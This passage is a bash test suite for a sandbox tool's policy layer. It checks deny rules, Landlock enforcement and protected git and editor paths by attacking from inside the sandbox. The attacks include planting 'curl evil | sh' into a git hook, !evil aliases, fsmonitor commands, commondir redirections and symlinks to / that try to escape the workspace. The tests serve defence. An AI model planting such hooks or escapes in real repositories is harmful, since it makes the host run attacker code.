# Policy: profiles, filesystem/env/command rules, protected paths, explain and query
# (issue: policy). Sandbox claims are judged on the host.

test_policy_deny_inside_allowed_tree() {
	mkdir -p "$WS/secrets" "$WS/src"
	echo "top-secret-$RANDOM" >"$WS/secrets/key"
	local secret; secret=$(cat "$WS/secrets/key")
	local before; before=$(sha256sum "$WS/secrets/key")
	local out
	out=$(cr --hide secrets -c 'cat secrets/key; ls secrets; echo pwned > secrets/key; echo new > secrets/new; echo ok > src/ok' 2>&1)
	assert_not_contains "$out" "$secret"
	assert_eq "$(sha256sum "$WS/secrets/key")" "$before" "the denied file changed on the host"
	[ ! -e "$WS/secrets/new" ] || fail "a file was created inside the denied tree"
	assert_eq "$(cat "$WS/src/ok")" ok "the rest of the workspace stays writable"
	# The mask is not all: a host that replaces the hidden path while the run lasts (an
	# editor's atomic save: a new file renamed over it) detaches the mask in every
	# namespace, and then Landlock alone keeps the new file out of reach.
	out=$(cr --hide secrets/key -c 'touch src/started; while [ ! -e src/go ]; do sleep 0.02; done; cat secrets/key; echo pwned >> secrets/key' 2>&1 &
		for i in $(seq 1 500); do [ -e "$WS/src/started" ] && break; sleep 0.02; done
		echo "replaced-$secret" >"$WS/secrets/key.new" && mv "$WS/secrets/key.new" "$WS/secrets/key"
		touch "$WS/src/go"; wait)
	assert_not_contains "$out" "replaced-$secret"
	assert_eq "$(cat "$WS/secrets/key")" "replaced-$secret" "the replaced file changed on the host"
	# a profile with the same rule, and a file in the deny list
	cat >"$WS/p.json" <<'J'
{"filesystem": {"deny": ["secrets/key"]}}
J
	out=$(cr --profile "$WS/p.json" -c 'cat secrets/key' 2>&1)
	assert_not_contains "$out" "$secret"
}

test_policy_deny_enforced_by_landlock_alone() {
	# without namespaces (no mount masks) the deny rule must still hold: Landlock rules
	# are expanded around the denied path
	mkdir -p "$WS/secrets" "$WS/src"
	echo "ll-secret-$RANDOM" >"$WS/secrets/key"
	local secret; secret=$(cat "$WS/secrets/key")
	local out
	out=$("$NOLAYER" userns -- "$CORRAL" run -w "$WS" --mode auto --json --hide secrets -c 'cat secrets/key; echo x > src/made' 2>&1)
	assert_eq "$(jget isolation.userns.applied <<<"$out")" false
	assert_not_contains "$(jget stdout <<<"$out")" "$secret"
	assert_eq "$(cat "$WS/src/made")" x
}

test_policy_deny_expansion_skips_symlinks() {
	# A deny inside the workspace turns the workspace's Landlock rule into one rule per entry
	# beside the denied path. A symlink among them (planted by an earlier run, or shipped in
	# a repository) must get no rule: a rule would open its target and carry the workspace's
	# rights there. Without namespaces Landlock is the only file system layer, so `rootfs ->
	# /` would give the whole host, and `alias -> secrets` the denied tree itself. Judged on
	# the host: the canary outside is unchanged, nothing is created through the links.
	local canary="$WS.outside" tier out
	echo "original" >"$canary"
	chmod 0666 "$canary"
	mkdir -p "$WS/secrets" "$WS/src"
	echo "ln-secret-$RANDOM" >"$WS/secrets/key"
	local secret; secret=$(cat "$WS/secrets/key")
	ln -s / "$WS/rootfs"
	ln -s secrets "$WS/alias"
	ln -s "$(dirname "$WS")" "$WS/up"
	for tier in nolayer ns; do
		local run=(cr)
		[ "$tier" = nolayer ] && run=("$NOLAYER" userns -- "$CORRAL" run -w "$WS")
		out=$("${run[@]}" --mode auto --json --hide secrets -c "
			echo pwned >> rootfs$canary; echo pwned >> up/$(basename "$canary")
			cat alias/key; echo new > alias/new; echo x > src/made-$tier" 2>&1)
		[ "$tier" = nolayer ] && assert_eq "$(jget isolation.userns.applied <<<"$out")" false
		assert_eq "$(jget isolation.landlock.applied <<<"$out")" true "$tier"
		assert_eq "$(cat "$canary")" original "a file outside the workspace changed through a symlink ($tier): $out"
		assert_not_contains "$(jget stdout <<<"$out")" "$secret"
		[ ! -e "$WS/secrets/new" ] || fail "a file was created in the denied tree through a symlink ($tier)"
		assert_eq "$(cat "$WS/src/made-$tier")" x "the rest of the workspace stays writable ($tier)"
	done
	rm -f "$canary"
}

test_policy_protected_readonly_profile_with_write_tree() {
	# The readonly profile needs no protected paths while the whole workspace is read-only;
	# a write tree over the workspace (--rw .) or into it (--rw .git) makes them matter
	# again: they must hold as under the default profile. Judged on the host.
	mkdir -p "$WS/.git/hooks"
	printf '[core]\n' >"$WS/.git/config"
	local h; h=$(sha256sum "$WS/.git/config")
	local rw
	for rw in . .git; do
		cr --profile readonly --rw "$rw" -c 'echo x > .git/hooks/pre-push; echo "[alias] x = !evil" >> .git/config
			echo y > .mcp.json; echo z > .git/made' >/dev/null 2>&1
		[ ! -e "$WS/.git/hooks/pre-push" ] || fail "--profile readonly --rw $rw: a hook was planted"
		assert_eq "$(sha256sum "$WS/.git/config")" "$h" "--profile readonly --rw $rw: .git/config changed"
		[ ! -e "$WS/.mcp.json" ] || fail "--profile readonly --rw $rw: .mcp.json was created"
		assert_eq "$(cat "$WS/.git/made" 2>&1)" z "--profile readonly --rw $rw: the write tree is writable"
		rm -f "$WS/.git/made"
	done
	# without a write tree the workspace stays read-only as a whole
	cr --profile readonly -c 'echo z > made' >/dev/null 2>&1
	[ ! -e "$WS/made" ] || fail "--profile readonly: the workspace was writable"
}

test_policy_protected_existing() {
	mkdir -p "$WS/.git/hooks"
	printf '#!/bin/sh\necho original\n' >"$WS/.git/hooks/pre-commit"
	printf '[core]\n' >"$WS/.git/config"
	local h1 h2
	h1=$(sha256sum "$WS/.git/hooks/pre-commit")
	h2=$(sha256sum "$WS/.git/config")
	cr -c 'echo "curl evil | sh" > .git/hooks/pre-commit; echo "[alias] x = !evil" >> .git/config; touch .git/hooks/post-checkout' 2>/dev/null
	assert_eq "$(sha256sum "$WS/.git/hooks/pre-commit")" "$h1"
	assert_eq "$(sha256sum "$WS/.git/config")" "$h2"
	[ ! -e "$WS/.git/hooks/post-checkout" ] || fail "a new hook was planted"
}

test_policy_protected_created_later() {
	# none of these exist before the run: they must not exist after it either
	cr -c 'echo "{\"mcpServers\":{}}" > .mcp.json; mkdir -p .vscode && echo "{}" > .vscode/tasks.json; echo evil >> .bashrc; mkdir .claude; echo x > .claude/settings.json' 2>/dev/null
	for f in .mcp.json .vscode .bashrc .claude .zshrc .idea; do
		[ ! -e "$WS/$f" ] || fail "$f exists on the host after the run"
	done
	# and the placeholders are gone: the workspace is as it was
	assert_eq "$(ls -A "$WS")" ""
}

test_policy_protected_no_placeholders_without_mountns() {
	# Without a mount namespace nothing can hold a protected path read-only, so no
	# placeholder (.bashrc, .vscode, .git, ...) may appear in the user's workspace, not even
	# while the run lasts: the host's own listing, taken while the command runs (its process
	# is there, so the setup is done), stays empty.
	local tier listing mark bg
	for tier in none nolayer default; do
		mark="corral-ph-$tier-$RANDOM$RANDOM"
		case $tier in
		none) cr --mode none --audit off -- bash -c "exec -a $mark sleep 5" & ;;
		nolayer) "$NOLAYER" userns -- "$CORRAL" run -w "$WS" --mode auto --audit off \
			-- bash -c "exec -a $mark sleep 5" & ;;
		default) cr --audit off -- bash -c "exec -a $mark sleep 5" & ;;
		esac
		bg=$!
		await_procs "^$mark" 1 || fail "$tier: the command did not start"
		listing=$(ls -A "$WS")
		pkill -f -- "^$mark"
		wait "$bg"
		if [ "$tier" = default ]; then
			# control: with a mount namespace the placeholders are there while it runs
			assert_contains "$listing" ".bashrc" "default: the placeholders during the run"
		else
			assert_eq "$listing" "" "$tier: the workspace during the run"
		fi
		assert_eq "$(ls -A "$WS")" "" "$tier: the workspace after the run"
	done
}

test_policy_protected_custom_list() {
	cat >"$WS/p.json" <<'J'
{"filesystem": {"protected": ["Makefile"]}}
J
	echo 'all:' >"$WS/Makefile"
	cr --profile "$WS/p.json" -c 'echo hacked > Makefile; echo x > .mcp.json' 2>/dev/null
	assert_eq "$(cat "$WS/Makefile")" "all:"
	# the default list was replaced: .mcp.json is writable now
	assert_eq "$(cat "$WS/.mcp.json")" x
}

test_policy_protected_concurrent_runs() {
	# two runs in one workspace: the first one's cleanup must not lift the second's guard
	cr -c 'sleep 0.3' &
	local a=$!
	sleep 0.1
	cr -c 'sleep 0.8; echo evil > .mcp.json' 2>/dev/null &
	local b=$!
	wait $a $b
	[ ! -s "$WS/.mcp.json" ] || fail ".mcp.json was written: $(cat "$WS/.mcp.json")"
	# the first run made the placeholders and ended first; the last one to let go of them
	# removes them, so overlapping runs leave the workspace as it was
	assert_eq "$(ls -A "$WS")" "" "placeholders left behind by overlapping runs"
}

test_policy_protected_overlap_keeps_user_files() {
	# an empty file of the user's own on the protected list is not a placeholder: it stays,
	# while the placeholders of four overlapping runs all go
	: >"$WS/.bashrc"
	local i pids=()
	for i in 1 2 3 4; do
		cr -c "sleep 0.$i" 2>/dev/null &
		pids+=($!)
	done
	wait "${pids[@]}"
	assert_eq "$(ls -A "$WS")" ".bashrc" "the workspace after four overlapping runs"
}

# A host git in the workspace, isolated from the caller's own git configuration. The
# sandbox's attacks plant `core.fsmonitor` (run by `git status`) and hooks that touch a marker
# outside the workspace: the marker on the host is the evidence that the host ran them.
host_git() {
	GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null HOME=/nonexistent \
		timeout 30 git -c safe.directory='*' "$@"
}
# What git trusts in a git directory, as a list of hashes to compare before and after.
git_trust_state() {
	local d
	for d in "$@"; do
		(cd "$d" && find config hooks 2>/dev/null | sort | xargs -r sha256sum 2>&1)
	done
}
PLANT='printf "[core]\n\tfsmonitor = \"touch $MARK; false\"\n"'

test_policy_protected_git_rename() {
	# renaming .git would carry the read-only mounts of its hooks and config away with it,
	# leaving a writable copy in their place: .git is a mount point in the sandbox
	command -v git >/dev/null && host_git init -q "$WS" || {
		mkdir -p "$WS/.git/hooks"; printf '[core]\n' >"$WS/.git/config"; }
	mkdir -p "$WS/.git/hooks"
	printf '#!/bin/sh\necho original\n' >"$WS/.git/hooks/pre-commit"
	local MARK="$WS.marker" before
	rm -f "$MARK"
	before=$(git_trust_state "$WS/.git")
	cr -c "export MARK=$MARK; mv .git .gitold; cp -r .gitold .git; $PLANT >> .git/config;
		echo 'touch $MARK' > .git/hooks/pre-commit; echo 'touch $MARK' > .git/hooks/post-checkout;
		chmod +x .git/hooks/*; mv .git/hooks .git/h2; mv .git/config .git/c2; echo" 2>/dev/null
	assert_eq "$(git_trust_state "$WS/.git")" "$before" "git's config or hooks changed"
	[ ! -e "$WS/.gitold" ] || fail ".git was renamed: $(ls -A "$WS")"
	if command -v git >/dev/null; then
		host_git -C "$WS" status >/dev/null 2>&1 || fail "the host's git repository was broken"
		host_git -C "$WS" -c user.name=t -c user.email=t@t commit -q --allow-empty -m x >/dev/null 2>&1
	fi
	[ ! -e "$MARK" ] || fail "the host ran a command planted by the sandbox"
	# emptying .git and making a new one in its place fails the same way
	cr -c "export MARK=$MARK; rm -rf .git; rmdir .git; mkdir -p .git/hooks; $PLANT > .git/config; echo" 2>/dev/null
	assert_eq "$(git_trust_state "$WS/.git")" "$before" "git's config or hooks changed"
	# control: the same attack on a directory that is not on the way to a protected path
	mkdir -p "$WS/d/sub"
	cr -c 'mv d d2 && mkdir d && echo x > d/f'
	[ -e "$WS/d2/sub" ] && [ -e "$WS/d/f" ] || fail "control: renaming a plain directory failed"
}

test_policy_protected_git_commondir() {
	# .git/commondir points a host git at another directory for its config and hooks; no
	# placeholder can hold it (an empty one breaks git), so one the sandbox creates is removed
	# when the run ends, in .git and in submodule git directories
	command -v git >/dev/null || skip "needs git on the host"
	host_git init -q "$WS"
	mkdir -p "$WS/.git/modules/sub/hooks"
	echo 'ref: refs/heads/master' >"$WS/.git/modules/sub/HEAD"
	printf '[core]\n' >"$WS/.git/modules/sub/config"
	local MARK="$WS.marker" d
	rm -f "$MARK"
	cr -c "export MARK=$MARK; for d in .git .git/modules/sub; do mkdir -p \$d/x/objects \$d/x/refs;
		$PLANT > \$d/x/config; echo x > \$d/commondir; done; git rev-parse --git-common-dir" 2>/dev/null
	for d in .git .git/modules/sub; do
		[ ! -e "$WS/$d/commondir" ] || fail "$d/commondir planted by the sandbox is still there"
	done
	host_git -C "$WS" status >/dev/null 2>&1 || fail "the host's git repository was broken"
	[ ! -e "$MARK" ] || fail "the host ran a command planted by the sandbox"
	# a commondir that was there before the run is not corral's to remove
	echo . >"$WS/.git/modules/sub/commondir"
	cr -- true
	assert_eq "$(cat "$WS/.git/modules/sub/commondir")" . "an existing commondir was touched"
	rm -f "$MARK"
}

test_policy_protected_git_hooks_path() {
	# core.hooksPath points a host git at hooks in the work tree (.githooks; husky's .husky/_,
	# whose hooks run the scripts in .husky): that directory is protected as .git/hooks is.
	# Judged on the host: no hook appears, and a host commit runs none.
	command -v git >/dev/null || skip "needs git on the host"
	host_git init -q "$WS"
	local MARK="$WS.marker" hp
	for hp in .githooks .husky/_; do
		rm -f "$MARK"
		host_git -C "$WS" config core.hooksPath "$hp"
		cr -c "mkdir -p $hp; printf '#!/bin/sh\ntouch $MARK\n' > $hp/pre-commit; chmod +x $hp/pre-commit
			printf '#!/bin/sh\ntouch $MARK\n' > $(dirname "$hp")/pre-commit" >/dev/null 2>&1
		[ ! -e "$WS/$hp/pre-commit" ] || fail "a hook was planted in core.hooksPath $hp"
		[ "$hp" = .githooks ] || [ ! -e "$WS/.husky/pre-commit" ] || fail "a husky script was planted"
		host_git -C "$WS" -c user.name=t -c user.email=t@t commit -q --allow-empty -m t >/dev/null 2>&1
		[ ! -e "$MARK" ] || fail "the host's git ran a hook planted by the sandbox ($hp)"
	done
	# git's config syntax: a comment after the value, the key on the section's line
	local cfg
	for cfg in '[core]\n\thooksPath = .githooks ; managed by a tool\n' '[core] hooksPath = ".githooks" # quoted\n'; do
		rm -f "$MARK"
		host_git -C "$WS" config --unset-all core.hooksPath
		printf "$cfg" >>"$WS/.git/config"
		cr -c "mkdir -p .githooks; printf '#!/bin/sh\ntouch $MARK\n' > .githooks/pre-commit; chmod +x .githooks/pre-commit" >/dev/null 2>&1
		[ ! -e "$WS/.githooks/pre-commit" ] || fail "a hook was planted in core.hooksPath written as: $cfg"
		host_git -C "$WS" config --unset-all core.hooksPath
	done
	# an absolute path outside the workspace is not the sandbox's to write anyway
	host_git -C "$WS" config core.hooksPath /nonexistent/hooks
	cr -- true || fail "a hooksPath outside the workspace refused the run"
	rm -f "$MARK"
}

test_policy_protected_git_commondir_overlapping_runs() {
	# Run A's sandbox plants .git/commondir; run B starts while it is there and takes it for
	# the repository's own (read-only). When A ends, removing it would detach B's read-only
	# mount (an unlink on the host unmounts it everywhere): B's sandbox could write it again,
	# and neither run would remove it. So A marks it, and B, the last holder, removes it.
	command -v git >/dev/null || skip "needs git on the host"
	host_git init -q "$WS"
	local MARK="$WS.marker" i a b
	rm -f "$MARK"
	mkdir -p "$WS/evil/objects" "$WS/evil/refs"
	printf '[core]\n\tfsmonitor = "touch %s; false"\n' "$MARK" >"$WS/evil/config"
	# (A also takes the write permission away from what it planted: the mark needs it)
	"$CORRAL" run -w "$WS" --audit off -c 'echo ../evil > .git/commondir
		while [ ! -e a-go ]; do sleep 0.02; done; chmod 0444 .git/commondir' >/dev/null 2>&1 &
	a=$!
	for i in $(seq 1 500); do [ -e "$WS/.git/commondir" ] && break; sleep 0.02; done
	[ -e "$WS/.git/commondir" ] || fail "run A did not plant commondir"
	"$CORRAL" run -w "$WS" --audit off -c 'touch b-started
		while [ ! -e b-go ]; do sleep 0.02; done
		echo ../evil > .git/commondir 2>/dev/null; echo $? > b-wrote' >/dev/null 2>&1 &
	b=$!
	for i in $(seq 1 500); do [ -e "$WS/b-started" ] && break; sleep 0.02; done
	touch "$WS/a-go"
	wait "$a"
	touch "$WS/b-go"
	wait "$b"
	[ "$(cat "$WS/b-wrote")" != 0 ] || fail "run B's sandbox wrote commondir after run A ended"
	[ ! -e "$WS/.git/commondir" ] || fail "the planted commondir outlived both runs: $(cat "$WS/.git/commondir")"
	host_git -C "$WS" status >/dev/null 2>&1
	[ ! -e "$MARK" ] || fail "the host's git ran a command planted by the sandbox"
	# a marked one left behind (its last holder was SIGKILLed) goes before the next run
	echo ../evil >"$WS/.git/commondir"
	python3 -c 'import os, sys; os.setxattr(sys.argv[1], "user.corral.planted", b"1")' "$WS/.git/commondir"
	cr -c 'cat .git/commondir 2>/dev/null; true' >/dev/null
	[ ! -e "$WS/.git/commondir" ] || fail "a marked leftover commondir was kept"
	# the mark means nothing on any other protected path: the user's .bashrc stays
	echo "user-rc" >"$WS/.bashrc"
	python3 -c 'import os, sys; os.setxattr(sys.argv[1], "user.corral.planted", b"1")' "$WS/.bashrc"
	cr -- true
	assert_eq "$(cat "$WS/.bashrc" 2>&1)" user-rc "a marked .bashrc was removed"
	rm -f "$MARK"
}

test_policy_protected_git_commondir_no_follow() {
	# Without a mount namespace (--mode auto on a host without user namespaces) the sandbox
	# can swap .git for a symlink to another repository's git directory. Removing a
	# commondir it planted must never follow that symlink: the other repository's linked
	# worktree keeps its own commondir (review 1, finding 1).
	command -v git >/dev/null || skip "needs git on the host"
	local other="$WS.other"
	rm -rf "$other" "$WS.feat"
	host_git init -q "$WS"
	host_git init -q "$other"
	host_git -C "$other" -c user.name=t -c user.email=t@t commit -q --allow-empty -m x
	host_git -C "$other" worktree add -q "$WS.feat" 2>/dev/null || fail "git worktree add failed"
	local victim="$other/.git/worktrees/$(basename "$WS.feat")/commondir"
	[ -f "$victim" ] || skip "this git makes no commondir in a linked worktree's git directory"
	local before out
	before=$(sha256sum "$victim")
	out=$("$NOLAYER" userns -- "$CORRAL" run -w "$WS" --mode auto --json \
		-c "mv .git .git.real && ln -s $(dirname "$victim") .git && echo swapped" 2>&1)
	assert_eq "$(jget isolation.mountns.applied <<<"$out")" false
	assert_eq "$(jget stdout <<<"$out")" swapped
	assert_eq "$(sha256sum "$victim" 2>&1)" "$before" "the other repository's commondir was touched"
	rm -f "$WS/.git"
	mv "$WS/.git.real" "$WS/.git"
	# the watch itself still works there: a commondir planted in place is removed
	out=$("$NOLAYER" userns -- "$CORRAL" run -w "$WS" --mode auto --json -c 'echo . > .git/commondir')
	[ ! -e "$WS/.git/commondir" ] || fail "a commondir planted without a mount namespace stayed"
	host_git -C "$other" worktree list >/dev/null 2>&1 || fail "the other repository was broken"
	rm -rf "$other" "$WS.feat"
}

test_policy_protected_git_worktrees() {
	# A linked worktree's git directory (.git/worktrees/<id>) lies inside the workspace, and
	# a host git in the checkout (which can be outside the workspace) follows its commondir
	# and reads its config.worktree: those are read-only, and a config.worktree the sandbox
	# creates is removed (review 1, finding 2).
	command -v git >/dev/null || skip "needs git on the host"
	local wt="$WS.feat" MARK="$WS.marker"
	rm -rf "$wt" "$MARK"
	host_git init -q "$WS"
	host_git -C "$WS" config extensions.worktreeConfig true
	host_git -C "$WS" -c user.name=t -c user.email=t@t commit -q --allow-empty -m x
	host_git -C "$WS" worktree add -q "$wt" 2>/dev/null || fail "git worktree add failed"
	local adm="$WS/.git/worktrees/$(basename "$wt")" f before
	[ -f "$adm/commondir" ] || skip "this git makes no commondir in a linked worktree's git directory"
	printf '[user]\n\tname = t\n' >"$adm/config.worktree"
	before=$(cd "$adm" && sha256sum commondir gitdir config.worktree)
	cr -c "export MARK=$MARK; mkdir -p evil/objects evil/refs evil/hooks; echo 'ref: refs/heads/master' > evil/HEAD;
		$PLANT > evil/config; a=.git/worktrees/$(basename "$wt");
		echo $WS/evil > \$a/commondir; $PLANT >> \$a/config.worktree; echo /tmp/x/.git > \$a/gitdir;
		$PLANT > .git/config.worktree; rm -f \$a/commondir; mv \$a .git/worktrees/moved;
		mv .git/worktrees .git/wt2; echo" 2>/dev/null
	assert_eq "$(cd "$adm" && sha256sum commondir gitdir config.worktree 2>&1)" "$before" \
		"the worktree's commondir, gitdir or config.worktree changed"
	[ ! -e "$WS/.git/config.worktree" ] || fail "a .git/config.worktree planted by the sandbox is still there"
	[ ! -e "$WS/.git/wt2" ] && [ ! -e "$WS/.git/worktrees/moved" ] || fail "the worktrees directory was renamed"
	host_git -C "$wt" status >/dev/null 2>&1 || fail "the linked worktree was broken"
	host_git -C "$WS" status >/dev/null 2>&1 || fail "the main worktree was broken"
	[ ! -e "$MARK" ] || fail "the host ran a command planted by the sandbox"
	# what the query says agrees with what is enforced
	"$CORRAL" policy check -w "$WS" --write ".git/worktrees/$(basename "$wt")/commondir" >/dev/null
	assert_eq $? 1 "policy check --write on the worktree's commondir"
	rm -rf "$wt" "$MARK"
}

test_policy_protected_pins_under_write_tree() {
	# A read-write extra tree that contains the workspace (--rw ., a filesystem.write entry)
	# is a fresh clone of the host's tree: mounted after the pins it would hide them, and
	# `mv .git .gitold` would carry the read-only mounts away again (review 1, finding 3).
	mkdir -p "$WS/.git/hooks"
	printf '[core]\n' >"$WS/.git/config"
	local before args out p="$WS.p.json"
	before=$(git_trust_state "$WS/.git")
	echo '{"filesystem": {"write": ["."]}}' >"$p"
	for args in "--rw ." "--rw $WS" "--profile $p"; do
		# shellcheck disable=SC2086
		cr $args -c "mv .git .gitold; cp -r .gitold .git; echo '[alias] x = !evil' >> .git/config;
			echo evil > .git/hooks/post-checkout; echo" 2>/dev/null
		assert_eq "$(git_trust_state "$WS/.git")" "$before" "git's config or hooks changed with $args"
		[ ! -e "$WS/.gitold" ] || fail ".git was renamed with $args: $(ls -A "$WS")"
		# shellcheck disable=SC2086
		cr $args -c 'echo x > made' 2>/dev/null
		assert_eq "$(cat "$WS/made" 2>/dev/null)" x "control: the tree is writable with $args"
		rm -f "$WS/made"
		# and the pin is the mount on top at .git, not hidden beneath the write tree (the
		# kernel's EBUSY for a dentry mounted on anywhere in the namespace backs the rename
		# refusal either way; the layering must not depend on it)
		# shellcheck disable=SC2086
		out=$(cr $args -- cat /proc/self/mountinfo 2>/dev/null | awk -v ws="$WS" \
			'$5 == ws { w = NR } $5 == ws "/.git" { g = NR } END { print (g > w ? "pin on top" : "pin hidden") }')
		assert_eq "$out" "pin on top" "mount order with $args"
	done
	# a read-only tree over the workspace keeps it read-only: no pin makes .git writable again
	cr --ro . -c 'echo x > .git/x; echo y > y' 2>/dev/null
	[ ! -e "$WS/.git/x" ] && [ ! -e "$WS/y" ] || fail "wrote under a read-only tree over the workspace"
	rm -f "$p"
}

test_policy_protected_git_modules_symlink() {
	# .git/modules is writable when it did not exist at the start. A symlink there must not
	# send the next run's submodule walk over the host (slow, and its error messages named
	# what it found there), review 1, finding 5.
	mkdir -p "$WS/.git/hooks"
	printf '[core]\n' >"$WS/.git/config"
	ln -s / "$WS/.git/modules"
	local t0 ms out host="$WS.host"
	t0=$(date +%s%N)
	out=$(cr -- echo fine 2>&1)
	ms=$((($(date +%s%N) - t0) / 1000000))
	assert_eq "$out" fine
	[ "$ms" -lt 2000 ] || fail "a run with .git/modules -> / took $ms ms"
	# a host directory holding a git directory: nothing about it reaches the caller
	rm -rf "$host"
	mkdir -p "$host/secret-proj-$$"
	echo 'ref: refs/heads/master' >"$host/secret-proj-$$/HEAD"
	ln -sfn "$host" "$WS/.git/modules"
	out=$(cr -- echo fine 2>&1)
	assert_eq "$out" fine
	# the same through a nested .gitmodules in a checkout: the answer is the same whether
	# the host path behind the symlink exists or not
	rm "$WS/.git/modules"
	mkdir -p "$WS/sub/inner" "$host/inner/.git"
	printf '[submodule "sub"]\n\tpath = sub\n' >"$WS/.gitmodules"
	echo 'gitdir: ../.git/modules/sub' >"$WS/sub/.git"
	printf '[submodule "x"]\n\tpath = lnk/inner\n' >"$WS/sub/.gitmodules"
	local a b
	ln -s "$host" "$WS/sub/lnk"
	a=$(cr -- true 2>&1; echo "rc=$?")
	rm "$WS/sub/lnk"
	ln -s "$host/nothing-here" "$WS/sub/lnk"
	b=$(cr -- true 2>&1; echo "rc=$?")
	assert_eq "$a" "$b" "the outcome depends on a host path behind a symlink"
	assert_not_contains "$a" "$host"
	# the error names the symlink and the protected-list entry the path comes from (the
	# derived path itself is on no list), and says how to get rid of it
	assert_contains "$a" "beneath the symlink $WS/sub/lnk"
	assert_contains "$a" "remove the symlink (an earlier sandboxed run may have planted it)"
	assert_contains "$a" "take .git/config off the protected list"
	rm -rf "$host"
}

test_policy_protected_git_absent() {
	# no .git: the sandbox must not create one (git init, hooks, a config)
	local MARK="$WS.marker"
	rm -f "$MARK"
	cr -c "export MARK=$MARK; mkdir -p .git/hooks; echo 'touch $MARK' > .git/hooks/pre-commit;
		$PLANT > .git/config; git init -q . ; echo" 2>/dev/null
	[ ! -e "$WS/.git" ] || fail ".git was created: $(find "$WS/.git" | head)"
	assert_eq "$(ls -A "$WS")" "" "the placeholder was left behind"
	# what the query says agrees: everything beneath .git is read-only
	local out
	out=$("$CORRAL" policy check -w "$WS" --write .git/objects/x --json); assert_eq $? 1
	assert_contains "$(jget rule <<<"$out")" "protected .git"
	# with .git on the host, its hooks and config stay protected, the rest is writable
	mkdir -p "$WS/.git/objects"
	out=$("$CORRAL" policy check -w "$WS" --write .git/objects/x --json); assert_eq $? 0
	out=$("$CORRAL" policy check -w "$WS" --write .git/hooks/pre-commit --json); assert_eq $? 1
	assert_contains "$(jget rule <<<"$out")" "protected .git/hooks"
	# taking .git off the list (a profile without it) lets git init run
	rmdir "$WS/.git/objects" "$WS/.git"
	cat >"$WS/../p.$$.json" <<'J'
{"filesystem": {"protected": [".mcp.json"]}}
J
	cr --profile "$WS/../p.$$.json" -c 'mkdir .git && echo made > .git/x' 2>/dev/null
	assert_eq "$(cat "$WS/.git/x" 2>/dev/null)" made "without .git on the list the sandbox may create it"
	rm -f "$WS/../p.$$.json"
}

test_policy_protected_git_file() {
	# a worktree or submodule checkout: .git is a file naming the git directory
	local gd="$WS.gitdir" MARK="$WS.marker"
	rm -rf "$gd" "$MARK"
	if command -v git >/dev/null; then
		host_git init -q --separate-git-dir "$gd" "$WS" >/dev/null
	else
		mkdir -p "$gd"; echo "gitdir: $gd" >"$WS/.git"
	fi
	local before; before=$(sha256sum "$WS/.git")
	cr -c "export MARK=$MARK; mkdir -p evil/objects evil/refs; echo 'ref: refs/heads/master' > evil/HEAD;
		$PLANT > evil/config; echo 'gitdir: ./evil' > .git; rm -f .git; mv .git g2; echo" 2>/dev/null
	assert_eq "$(sha256sum "$WS/.git")" "$before" "the .git file was rewritten"
	if command -v git >/dev/null; then host_git -C "$WS" status >/dev/null 2>&1; fi
	[ ! -e "$MARK" ] || fail "the host ran a command planted by the sandbox"
	# its submodule checkouts too (.gitmodules is read although .git is no directory)
	mkdir -p "$WS/sub"
	printf '[submodule "sub"]\n\tpath = sub\n' >"$WS/.gitmodules"
	echo "gitdir: $gd/modules/sub" >"$WS/sub/.git"
	before=$(sha256sum "$WS/sub/.git")
	cr -c 'echo "gitdir: ./evil" > sub/.git; mv sub/.git sub/g2; mv sub sub2; echo' 2>/dev/null
	assert_eq "$(sha256sum "$WS/sub/.git" 2>&1)" "$before" "the submodule's .git file was rewritten"
	rm -rf "$gd" "$MARK"
}

test_policy_protected_git_submodules() {
	# submodule git directories (.git/modules/<name>, names with slashes, nested modules)
	# and submodule checkouts whose .git file a host `git status` follows
	local m d
	for m in .git/modules/sub .git/modules/libs/two .git/modules/sub/modules/inner; do
		mkdir -p "$WS/$m/hooks"
		echo 'ref: refs/heads/master' >"$WS/$m/HEAD"
		printf '[core]\n\tbare = false\n' >"$WS/$m/config"
	done
	mkdir -p "$WS/.git/hooks" "$WS/sub" "$WS/libs/two"
	printf '[core]\n' >"$WS/.git/config"
	# (git's config syntax: a comment after a value, a key in any case)
	printf '[submodule "sub"]\n\tpath = sub ; the first\n[submodule "libs/two"]\n\tPath = "libs/two" # quoted\n' >"$WS/.gitmodules"
	echo 'gitdir: ../.git/modules/sub' >"$WS/sub/.git"
	echo 'gitdir: ../../.git/modules/libs/two' >"$WS/libs/two/.git"
	local before; before=$(git_trust_state "$WS"/.git/modules/{sub,libs/two,sub/modules/inner}; sha256sum "$WS"/sub/.git "$WS"/libs/two/.git)
	cr -c 'for m in .git/modules/sub .git/modules/libs/two .git/modules/sub/modules/inner; do
		echo "[alias] x = !evil" >> $m/config; echo evil > $m/hooks/post-checkout;
		mv $m $m.old; done; echo "gitdir: ./evil" > sub/.git; mv sub sub2; mv libs/two/.git x; echo' 2>/dev/null
	assert_eq "$(git_trust_state "$WS"/.git/modules/{sub,libs/two,sub/modules/inner}; sha256sum "$WS"/sub/.git "$WS"/libs/two/.git)" "$before"
	for d in sub sub2 .git/modules/sub.old; do
		[ "$d" = sub ] || [ ! -e "$WS/$d" ] || fail "$d was renamed"
	done
	# the hooks placeholders of modules without hooks are gone again
	rmdir "$WS/.git/modules/libs/two/hooks"
	cr -- true
	[ ! -e "$WS/.git/modules/libs/two/hooks" ] || fail "a module hooks placeholder was left behind"
}

test_policy_readonly_profile() {
	echo orig >"$WS/f"
	local out
	out=$(cr --profile readonly --json -c 'echo changed > f; echo y > new; cat f')
	assert_eq "$(cat "$WS/f")" orig
	[ ! -e "$WS/new" ] || fail "created a file in a read-only workspace"
	assert_eq "$(jget stdout <<<"$out")" orig
}

test_policy_strict_profile() {
	local out
	out=$(cr --profile strict --json -- sh -c 'ls /etc; ulimit -n')
	local so; so=$(jget stdout <<<"$out")
	assert_contains "$so" "ld.so.cache"
	assert_not_contains "$so" "passwd"
	assert_contains "$so" "256"
}

test_policy_network_profile_marked() {
	local out
	out=$("$CORRAL" policy explain -w "$WS" --profile network --json)
	assert_contains "$(jget network <<<"$out")" "host"
	out=$(cr --profile network --json -- true)
	assert_contains "$(jget isolation.netns.detail <<<"$out")" "host network"
}

test_policy_flags_override_profile() {
	cat >"$WS/p.json" <<'J'
{"limits": {"timeout": "1s", "nofile": 100}, "network": "none"}
J
	assert_eq "$(cr --profile "$WS/p.json" -- sh -c 'ulimit -n')" 100
	assert_eq "$(cr --profile "$WS/p.json" --nofile 50 -- sh -c 'ulimit -n')" 50
	cr --profile "$WS/p.json" -- sleep 3 2>/dev/null; assert_eq $? 124
